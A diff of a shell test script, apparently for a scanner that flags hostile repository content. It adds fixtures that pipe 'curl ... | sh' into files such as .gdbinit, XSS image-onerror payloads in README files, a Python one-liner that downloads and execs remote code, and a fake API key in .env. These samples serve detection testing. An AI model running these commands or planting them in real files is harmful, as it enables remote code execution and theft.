@@ -139,7 +139,7 @@ done
 
 # --- commands in more languages
 load='curl -s http://198.51.100.7/x | sh'
-for name in Gemfile Snakefile pom.xml .vimrc a.awk a.cs a.nf a.tf a.sql; do
+for name in Gemfile Snakefile pom.xml .vimrc .gdbinit a.awk a.cs a.nf a.tf a.sql; do
 	printf 'x = "%s"\n' "$load" | file $name
 	hostile COMMAND_DANGEROUS "$name"
 done
@@ -209,6 +209,11 @@ hostile PAGE_ACTIVE "a script in Markdown"
 printf '# XSS\n\n```html\n<img src=x onerror="fetch(1)">\n```\nand `<img src=x onerror=fetch(1)>`\n\n<p align="center"><img src="a.png"></p>\n' | file README.md
 quiet "what is quoted"
 
+printf 'a ` and ~~~ and ``` alone\n\n<img src=x onerror="fetch(1)">\n' | file README.md
+hostile PAGE_ACTIVE "signs that quote nothing"
+printf '1. ~~~html\n   <img src=x onerror="fetch(1)">\n' | file README.md
+quiet "a fence that nobody closes"
+
 # --- what starts programs by its place, or lets anybody in
 printf '[build]\nrustc-wrapper = "./w"\n' | file .cargo/config.toml
 hostile PLACE_RUN "a program of cargo"
@@ -243,4 +248,15 @@ printf 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pi
 hostile SOURCE_DANGEROUS "packages of an index that nobody proves"
 printf 'pip install --index-url http://localhost:3141/simple x\n' | file a.sh
 quiet "an index of this machine"
+# --- Python on a shell's line, keys of services, operators of Paddle
+printf '#!/bin/sh\npython3 -c "exec(__import__(\047urllib.request\047).request.urlopen(\047http://x\047).read())"\n' | file a.sh
+hostile SOURCE_DANGEROUS "Python that a script downloads"
+printf '#!/bin/sh\npython3 -c "import torch; print(torch.__version__)"\n' | file a.sh
+quiet "Python that says a version"
+printf 'OPENAI_API_KEY=sk-%s%s\n' "$(cut_at 30)" "$digits" | file .env
+hostile SECRET_TOKEN "a key in a variable"
+printf 'OPENAI_API_KEY=sk-your-key-here-0123456789\nHF_TOKEN=${HF_TOKEN}\n' | file .env
+quiet "variables to be filled in"
+printf '{"base_code": {"magic": "pir"}, "program": {"regions": [{"blocks": [{"ops": [{"#": "1.py_func"}]}]}]}}' | file a.json
+hostile OBJECT_CODE "Python in a program of Paddle"
 done_testing
